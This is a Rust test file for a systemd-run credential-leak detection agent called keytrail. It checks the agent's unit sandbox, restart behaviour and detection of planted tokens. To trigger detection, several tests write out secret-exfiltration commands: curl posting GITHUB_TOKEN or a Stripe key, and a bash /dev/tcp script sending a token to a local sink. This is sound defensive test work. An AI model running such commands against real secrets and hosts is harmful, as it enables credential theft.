@@ -1,0 +1,335 @@
+//! The agent as systemd starts it: in the sandbox of its unit it sees what it sees outside, and it comes and goes as
+//! services do.
+
+use crate::{
+    agent::Setup,
+    command::{act, sh},
+    events::{Ask as _, Event, now_ns, of_kind, wall_ns},
+    machine::{Scratch, patience, slowness, turn, wait_for},
+    plant,
+    server::{Sink, TlsServer},
+    service::{
+        SOCKET, Service, UNIT, Watch, journal, property, remove_unit, socket, systemctl, write_unit,
+    },
+    stream,
+};
+use std::{collections::BTreeSet, fs, path::Path, time::Duration};
+
+/// systemd reads the unit without complaint, and does not call it exposed.
+pub fn the_unit_is_sound() {
+    let _turn = turn();
+    let service = Service::start();
+    let done = act("systemd-analyze").args(["verify", UNIT]).run().ok();
+    let said = done.stdout_text() + &done.stderr_text();
+    // About other units of a small guest it may complain.
+    assert!(!said.contains("keytrail"), "{said}");
+    // 3.6 of 10 as measured; what it counts against the unit is what an agent of this kind is there for.
+    act("systemd-analyze")
+        .args(["security", "--offline=true", "--threshold=40", "--no-pager"])
+        .arg(format!("/etc/systemd/system/{UNIT}"))
+        .run()
+        .ok();
+    drop(service);
+}
+
+/// Sends a token in clear and over TLS.
+struct Acts {
+    server: TlsServer,
+    sink: Sink,
+    scratch: Scratch,
+}
+
+impl Acts {
+    fn prepare() -> Self {
+        let scratch = Scratch::new();
+        Self {
+            server: TlsServer::start(&scratch.join("server")),
+            sink: Sink::silent(),
+            scratch,
+        }
+    }
+
+    fn are_seen(&self, watch: &Watch) {
+        self.a_send_in_clear(watch);
+        self.a_send_over_tls(watch);
+    }
+
+    fn a_send_in_clear(&self, watch: &Watch) {
+        let token = plant::github();
+        let done = sh("curl -sm 0.5 -d \"$GITHUB_TOKEN\" http://127.0.0.1:$1/; :")
+            .arg(self.sink.port.to_string())
+            .env(token.name, &token.value)
+            .run()
+            .ok();
+        let sent = watch.expect("the send", |e| {
+            e.is("credential_sent") && e.in_tree(done.pid)
+        });
+        let text = sent.brief();
+        assert_eq!(sent.grade(), "observed", "{text}");
+        assert_eq!(
+            sent.peer(),
+            ("127.0.0.1", u32::from(self.sink.port)),
+            "{text}"
+        );
+        assert!(self.sink.has(&token.value));
+    }
+
+    fn a_send_over_tls(&self, watch: &Watch) {
+        let token = plant::stripe();
+        let done =
+            sh("curl -sk -o /dev/null -H \"Authorization: Bearer $STRIPE_SECRET_KEY\" \"$1\"; :")
+                .arg(self.server.url("/v1/charges"))
+                .env(token.name, &token.value)
+                .run()
+                .ok();
+        let sent = watch.expect("the send over TLS", |e| {
+            e.is("credential_sent") && e.in_tree(done.pid)
+        });
+        let text = sent.brief();
+        assert_eq!(sent.grade(), "observed", "{text}");
+        assert_eq!(sent.channel(), "tls", "{text}");
+        assert_eq!(sent.peer().1, u32::from(self.server.port), "{text}");
+    }
+}
+
+/// Installed and started by the README's words: active, and it sees and tells.
+pub fn installed_as_the_readme_says() {
+    let _turn = turn();
+    let acts = Acts::prepare();
+    let service = Service::start();
+    let watch = Watch::start(&service, &acts.scratch.join("watch.stderr"));
+    acts.are_seen(&watch);
+
+    let doctor = service.keytrail(&["doctor"]).limit(60).run().ok();
+    let said = doctor.stdout_text();
+    assert!(said.contains(SOCKET), "it asked no agent: {said}");
+    // Nobody but root and its group may ask.
+    let mode = act("stat").args(["-c", "%a %U", SOCKET]).run().ok();
+    assert_eq!(mode.stdout_text().trim(), "660 root");
+    let state = act("stat")
+        .args(["-c", "%a", "/var/lib/keytrail"])
+        .run()
+        .ok();
+    assert_eq!(state.stdout_text().trim(), "700");
+    assert_eq!(property(UNIT, "NRestarts"), "0");
+}
+
+/// What a status says of the agent's view: hooks, refusals and libraries without a hook.
+fn view(socket: &Path) -> BTreeSet<String> {
+    let status = stream::status(socket);
+    let signals = status.signals.iter().flat_map(|s| {
+        let refused = s
+            .refused
+            .iter()
+            .map(|r| format!("{} without {}", s.signal, r.hook));
+        std::iter::once(format!(
+            "{} by {} ({}) test {} note {}",
+            s.signal, s.hook, s.tier, s.self_test, s.note
+        ))
+        .chain(refused)
+    });
+    let libraries = status
+        .libraries
+        .iter()
+        // Its own command line is a process of the machine as well.
+        .filter(|l| !l.covered && !l.path.ends_with("/keytrail"))
+        .map(|l| format!("{} not covered", l.path));
+    signals.chain(libraries).collect()
+}
+
+/// Reasons of the gaps told so far, but for the time without an agent.
+fn gaps(events: &[Event]) -> BTreeSet<String> {
+    of_kind(events, "coverage_gap")
+        .iter()
+        // What a file that is gone and a program's library are depends on what the machine does just then.
+        .filter(|e| !["agent_down", "file_unreadable", "library_not_covered"].contains(&e.reason()))
+        .map(|e| {
+            let gap = e.gap.as_ref().unwrap();
+            format!("{} {}", gap.reason, gap.signal)
+        })
+        .collect()
+}
+
+/// The unit's sandbox hides nothing: hooks and gaps are those of an agent that root starts by hand.
+pub fn as_much_as_outside() {
+    let _turn = turn();
+    let scratch = Scratch::new();
+    let (outside, gaps_outside) = {
+        let agent = Setup::new(&scratch).start();
+        agent.settle();
+        let seen = (view(&agent.socket()), gaps(&agent.events()));
+        agent.stop();
+        seen
+    };
+    let service = Service::start();
+    let watch = Watch::start(&service, &scratch.join("watch.stderr"));
+    // As long as the other one had.
+    std::thread::sleep(patience(1));
+    let inside = view(&socket());
+    assert_eq!(inside, outside, "inside the unit, and outside");
+    let more: Vec<_> = gaps(&watch.events())
+        .difference(&gaps_outside)
+        .cloned()
+        .collect();
+    assert!(more.is_empty(), "gaps that are not there outside: {more:?}");
+    assert!(!watch.events().is_empty());
+}
+
+/// restart, SIGKILL and stop: the gaps are told, systemd brings it back, and it goes in time.
+pub fn restarted_killed_stopped() {
+    let _turn = turn();
+    let scratch = Scratch::new();
+    let service = Service::start();
+    let first = service.pid();
+    let down = |since: u64, what: &str| {
+        let watch = Watch::start(&service, &scratch.join("watch.stderr"));
+        let gap = watch.expect(what, |e| {
+            let to = e.gap.as_ref().and_then(|g| g.to.as_ref());
+            e.reason() == "agent_down" && to.is_some_and(|to| wall_ns(to) >= since)
+        });
+        gap.gap.unwrap().detail
+    };
+
+    let before = now_ns();
+    systemctl(&["restart", "keytrail"]).ok();
+    let second = service.pid();
+    assert_ne!(first, second);
+    let detail = down(before, "the gap of the restart");
+    assert!(detail.contains("stopped"), "{detail}");
+
+    let before = now_ns();
+    systemctl(&["kill", "--signal=SIGKILL", "keytrail"]).ok();
+    let third = service.restarted(second);
+    assert_ne!(second, third);
+    assert_eq!(property(UNIT, "NRestarts"), "1");
+    let detail = down(before, "the gap of the kill");
+    assert!(!detail.contains("stopped"), "{detail}");
+    let doctor = service.keytrail(&["doctor"]).run();
+    assert!(doctor.status.success(), "{}", doctor.stderr_text());
+
+    let took = service.stop();
+    eprintln!("stopped in {took:?}");
+    assert!(took < Duration::from_secs(2) * slowness(), "{took:?}");
+    assert_eq!(property(UNIT, "Result"), "success");
+    assert_eq!(property(UNIT, "ActiveState"), "inactive");
+    assert!(!socket().exists(), "the socket is left behind");
+    let watch = service.keytrail(&["watch"]).run();
+    assert_eq!(watch.code(), 3, "{}", watch.stderr_text());
+}
+
+/// With a filter that kills where the unit's refuses, and with everything done that an agent does: it lives.
+pub fn no_call_is_forbidden() {
+    const KILL: &str = "keytrail.service.d/kill.conf";
+    let _turn = turn();
+    let acts = Acts::prepare();
+    let service = Service::start();
+    service.stop();
+    write_unit(KILL, "[Service]\nSystemCallErrorNumber=kill\nRestart=no\n");
+    // The filter is in force: a program that mounts is killed by it.
+    let unit = fs::read_to_string(format!("/etc/systemd/system/{UNIT}")).unwrap();
+    let filter: String = unit
+        .lines()
+        .filter(|l| l.starts_with("SystemCallFilter=") || l.starts_with("SystemCallArchitectures="))
+        .map(|l| format!("{l}\n"))
+        .collect();
+    write_unit(
+        "mounter.service",
+        &format!("[Service]\nType=oneshot\nExecStart=/bin/mount -t tmpfs none /mnt\n{filter}"),
+    );
+    assert!(!systemctl(&["start", "mounter"]).status.success());
+    assert_eq!(
+        property("mounter.service", "ExecMainStatus"),
+        libc::SIGSYS.to_string()
+    );
+
+    let service = {
+        let started = Service::start();
+        let watch = Watch::start(&started, &acts.scratch.join("watch.stderr"));
+        acts.are_seen(&watch);
+        started.keytrail(&["doctor"]).run().ok();
+        started.stop();
+        started
+    };
+    assert_eq!(property(UNIT, "Result"), "success");
+    assert_eq!(property(UNIT, "ExecMainStatus"), "0");
+    remove_unit(KILL);
+    remove_unit("mounter.service");
+    drop(service);
+
+    // What it was not allowed by other means than the filter would stand in its log.
+    let log = journal(UNIT).to_lowercase();
+    for word in [
+        "not permitted",
+        "permission denied",
+        "eperm",
+        "eacces",
+        "panicked",
+    ] {
+        let line = log.lines().find(|line| line.contains(word));
+        assert!(line.is_none(), "{line:?}");
+    }
+}
+
+/// A service with a secret in its `EnvironmentFile=` that sends it: its unit, user and cgroup stand in the events.
+pub fn a_service_is_named() {
+    let _turn = turn();
+    let scratch = Scratch::new();
+    let sink = Sink::silent();
+    let service = Service::start();
+    let watch = Watch::start(&service, &scratch.join("watch.stderr"));
+    let token = plant::github();
+    let dir = scratch.make("etc");
+    fs::write(dir.join("env"), format!("GITHUB_TOKEN={}\n", token.value)).unwrap();
+    let script = dir.join("upload");
+    fs::write(
+        &script,
+        "#!/bin/bash\nexec 3<>/dev/tcp/127.0.0.1/$1\nprintf 'token %s\\n' \"$GITHUB_TOKEN\" >&3\nexec sleep 600\n",
+    )
+    .unwrap();
+    write_unit(
+        "uploader.service",
+        &format!(
+            "[Service]\nType=exec\nUser=www-data\nEnvironmentFile={dir}/env\nExecStart=/bin/bash {script} {port}\n",
+            dir = dir.display(),
+            script = script.display(),
+            port = sink.port
+        ),
+    );
+    let done = systemctl(&["start", "uploader"]);
+    assert!(done.status.success(), "{}", journal("uploader.service"));
+    wait_for("the secret at the server", patience(10), || {
+        sink.has(&token.value).then_some(())
+    });
+    let sent = watch.expect("the send", |e| {
+        e.is("credential_sent") && e.peer().1 == u32::from(sink.port)
+    });
+    assert_eq!(sent.source_type(), "env", "{}", sent.brief());
+    assert_eq!(sent.env_name(), "GITHUB_TOKEN", "{}", sent.brief());
+    assert_eq!(sent.grade(), "observed", "{}", sent.brief());
+    let exposed = watch.expect("the exposure", |e| {
+        e.is("credential_exposed") && e.fingerprint() == sent.fingerprint()
+    });
+    for event in [&sent, &exposed] {
+        is_the_uploader(event);
+    }
+    systemctl(&["stop", "uploader"]).ok();
+    remove_unit("uploader.service");
+}
+
+fn is_the_uploader(event: &Event) {
+    let process = event.process.as_ref().unwrap();
+    let text = format!("{} {process:?}", event.brief());
+    assert_eq!(process.unit, "uploader.service", "{text}");
+    assert_eq!(process.cgroup, "/system.slice/uploader.service", "{text}");
+    // www-data
+    assert_eq!(
+        (process.uid, process.euid, process.gid),
+        (33, 33, 33),
+        "{text}"
+    );
+    assert_eq!(process.ppid, 1, "{text}");
+    assert!(
+        process.container.is_empty() && process.pod.is_empty(),
+        "{text}"
+    );
+}
